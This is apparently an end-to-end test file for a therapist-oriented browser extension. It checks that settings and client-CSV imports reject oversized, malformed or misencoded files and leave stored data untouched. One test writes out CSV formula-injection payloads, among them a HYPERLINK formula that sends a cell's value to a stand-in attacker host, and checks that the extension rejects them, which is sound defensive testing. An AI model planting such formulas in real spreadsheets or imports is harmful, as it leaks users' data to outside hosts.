import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
import { defaultSettings, SETTINGS_VERSION } from '../../src/policy/defaults';
import { SETTINGS_FILE_FORMAT } from '../../src/policy/migrations';
import type { Settings } from '../../src/policy/schema';
import { STORAGE_KEYS } from '../../src/storage/keys';
import { readStore } from './support/extension-data';
import { type Session, startSession } from './support/session';
import { openOptions, storageGet } from './ui';

/**
 * Promise 4 in the built extension: files are read with the browser's own
 * File.text() (UTF-8, invalid bytes as U+FFFD), so encodings, sizes and
 * formats are tried here as a therapist would choose them. Each gets a clear
 * message and changes nothing: the settings and the client list are as before.
 */

let s: Session;
let dir: string;
let page: Page;
let settingsBefore: Settings;

type Input = 'settings' | 'clients';

async function choose(input: Input, name: string, content: Buffer | string): Promise<string> {
  const path = join(dir, name);
  await writeFile(path, content);
  // A path, not a buffer: the browser reads the file from disk as it would a file the therapist picked.
  await page.locator(`input[type=file][data-import="${input}"]`).setInputFiles(path);
  const result = page.locator('[data-import-result]');
  await page.waitForFunction(
    () => document.querySelector('[data-import-result]')?.textContent?.trim() || document.querySelector('[data-import-confirm]'),
    undefined,
    { timeout: 30_000 },
  );
  return (await result.count()) ? ((await result.textContent()) ?? '') : '';
}

async function expectNothingChanged(): Promise<void> {
  expect(await page.locator('[data-import-confirm]').count()).toBe(0);
  expect(await storageGet<Settings>(page, STORAGE_KEYS.settings)).toEqual(settingsBefore);
  expect(((await readStore(page, 'clients')) as Array<{ name: string }>).map((c) => c.name)).toEqual(['Anna Berg']);
}

function utf16le(text: string): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'bg-e2e-files-'));
  s = await startSession({ certDir: inject('e2eCertDir') });
  expect(await s.importClients('name\r\nAnna Berg\r\n')).toMatch(/^Imported 1 client/);
  page = await openOptions(s.context, s.extensionId, 'backup');
  const settings = page.locator('[data-setting="discreet"]');
  await page.getByRole('tab', { name: 'Policy' }).click();
  await settings.check();
  await page.locator('[data-save-status="saved"]').waitFor();
  settingsBefore = await storageGet<Settings>(page, STORAGE_KEYS.settings);
  expect(settingsBefore.discreet).toBe(true);
});

afterAll(async () => {
  await s?.close();
  await rm(dir, { recursive: true, force: true });
});

afterEach(() => {
  expect(s.network.unexpected()).toEqual([]);
  s.network.reset();
});

describe('settings files', () => {
  it('50 MB: refused from its size before it is read, saying so', async () => {
    const start = Date.now();
    const text = await choose('settings', 'huge.json', `{"format":"${SETTINGS_FILE_FORMAT}","x":"${'a'.repeat(50 * 1024 * 1024)}"}`);
    expect(text).toMatch(
      /^Nothing changed: huge\.json was not imported\.\nThe file is too large to be a settings file \(50\.0 MB; at most 10\.0 MB\)/,
    );
    console.log(`[measure] 50 MB settings file refused in ${Date.now() - start} ms (set and answered)`);
    await expectNothingChanged();
  });

  it('truncated, malformed, another format, a future version, an unknown version, a wrong field: each named', async () => {
    const valid = `${JSON.stringify({ format: SETTINGS_FILE_FORMAT, ...defaultSettings() }, null, 2)}\n`;
    const cases: Array<[string, string, RegExp]> = [
      ['truncated.json', valid.slice(0, Math.floor(valid.length / 2)), /Not a valid JSON file/],
      ['malformed.json', '{"format": "boundary-guard.settings", version: 2}', /Not a valid JSON file/],
      ['clients.csv.json', 'name,aliases\nAnna Berg,\n', /This looks like a client list \(CSV\), not a settings file/],
      [
        'other-app.json',
        '{"name":"my-app","version":"1.0.0"}',
        /This is not a Boundary Guard settings file: it does not say "format": "boundary-guard\.settings" at its top/,
      ],
      [
        'future.json',
        JSON.stringify({ format: SETTINGS_FILE_FORMAT, ...defaultSettings(), version: 99 }),
        new RegExp(
          `This file comes from a newer Boundary Guard \\(settings version 99; this one reads up to version ${SETTINGS_VERSION}\\)\\. Update the extension first`,
        ),
      ],
      [
        'zero.json',
        JSON.stringify({ format: SETTINGS_FILE_FORMAT, ...defaultSettings(), version: 0 }),
        new RegExp(`The file’s settings version should be a whole number from 1 to ${SETTINGS_VERSION}\\.`),
      ],
      [
        'text-version.json',
        JSON.stringify({ format: SETTINGS_FILE_FORMAT, ...defaultSettings(), version: '2' }),
        new RegExp(`The file’s settings version should be a whole number from 1 to ${SETTINGS_VERSION}\\.`),
      ],
      [
        'wrong-field.json',
        JSON.stringify({ format: SETTINGS_FILE_FORMAT, ...defaultSettings(), logRetentionDays: -1 }),
        /^Log kept for: should be a number of days from 1 to 3650\. \(logRetentionDays\)$/m,
      ],
      ['utf16-no-bom.json', Buffer.from(valid, 'utf16le').toString('latin1'), /Not a valid JSON file/],
    ];
    for (const [name, content, message] of cases) {
      const buffer = name === 'utf16-no-bom.json' ? Buffer.from(valid, 'utf16le') : Buffer.from(content);
      const text = await choose('settings', name, buffer);
      expect([name, text]).toEqual([
        name,
        expect.stringMatching(new RegExp(`^Nothing changed: ${name.replace(/\./g, '\\.')} was not imported\\.\\n`)),
      ]);
      expect([name, text]).toEqual([name, expect.stringMatching(message)]);
      await expectNothingChanged();
    }
  });
});

describe('client CSVs', () => {
  it('50 MB: refused from its size before it is read', async () => {
    const text = await choose('clients', 'huge.csv', `name\n${'Anna Berg\n'.repeat(5 * 1024 * 1024)}`);
    expect(text).toBe('Nothing was imported from huge.csv. The file is too large (50.0 MB; at most 5 MB).');
    await expectNothingChanged();
  });

  it('100,000 rows: refused with the count and the limit', async () => {
    const rows = Array.from({ length: 100_000 }, (_, i) => `Client Number${i},nick${i}`);
    const text = await choose('clients', 'many.csv', `name,aliases\r\n${rows.join('\r\n')}\r\n`);
    expect(text).toBe('Nothing was imported from many.csv. Too many rows: 100000 (at most 10000).');
    await expectNothingChanged();
  });

  it('UTF-16 without a byte-order mark, and Latin-1: refused, saying how to save as CSV UTF-8', async () => {
    const csv = 'name,aliases\r\nMaría José Pérez,Majo\r\n';
    expect(await choose('clients', 'unicode.csv', Buffer.from(csv, 'utf16le'))).toMatch(
      /^Nothing was imported from unicode\.csv\. The file is UTF-16 text.*"CSV UTF-8"/,
    );
    await expectNothingChanged();
    expect(await choose('clients', 'latin1.csv', Buffer.from(csv, 'latin1'))).toMatch(
      /^Nothing was imported from latin1\.csv\. The file is not valid UTF-8.*"CSV UTF-8"/,
    );
    await expectNothingChanged();
  });

  it('UTF-16 with a byte-order mark ("Unicode text" from Excel): Chromium decodes it, and the names arrive unmangled', async () => {
    // Chromium's File.text() honours a UTF-16 BOM; a browser that does not (the spec's UTF-8 decode) gets the refusal above.
    expect(await choose('clients', 'unicode-bom.csv', utf16le('name,aliases\r\nMaría José Pérez,Majo\r\n'))).toBe('');
    const preview = page.locator('[data-import-preview="clients"]');
    expect(await preview.locator('table[data-import-new] tbody tr').allInnerTexts()).toEqual([
      expect.stringMatching(/^María José Pérez\s+Majo/),
    ]);
    await preview.getByRole('button', { name: 'Cancel' }).click();
    await expectNothingChanged();
  });

  it('no header row: the column mapping shows what the first row held, says no column is the name, and stores nothing', async () => {
    const path = join(dir, 'no-header.csv');
    await writeFile(path, 'María José Pérez,Majo\r\n');
    await page.locator('input[type=file][data-import="clients"]').setInputFiles(path);
    const alert = page.locator('[data-import-no-name]');
    await alert.waitFor();
    expect(await alert.textContent()).toMatch(/^No column is read as the name/);
    expect(await page.locator('[data-import-columns]').textContent()).toContain('María José Pérez');
    expect(await page.locator('[data-import-confirm]:not([disabled])').count()).toBe(0);
    await expectNothingChanged();
  });

  it('formula injection: the rows are rejected in the preview, naming the formula; only clean rows would be added', async () => {
    await choose(
      'clients',
      'formulas.csv',
      'name,aliases\r\n"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",\r\nSam Lee,"@SUM(A1)"\r\n+1+1,\r\nRobin Park,\r\n',
    );
    const rejected = await page.locator('[data-import-preview="clients"] table.rejected tbody tr').allInnerTexts();
    // Each problem once, with the lines it holds (issue 15).
    expect(rejected.map((r) => r.replace(/\s+/g, ' ').trim())).toEqual([
      expect.stringMatching(/^"=HYPERLINK.*looks like a spreadsheet formula line 2 /),
      expect.stringMatching(/^"@SUM\(A1\)" looks like a spreadsheet formula line 3 “Sam Lee”$/),
      expect.stringMatching(/^"\+1\+1" looks like a spreadsheet formula line 4 /),
    ]);
    expect(await page.locator('[data-import-preview="clients"] table[data-import-new] tbody tr').allInnerTexts()).toEqual([
      expect.stringContaining('Robin Park'),
    ]);
    await page.locator('[data-import-preview="clients"]').getByRole('button', { name: 'Cancel' }).click();
    await expectNothingChanged();
  });
});
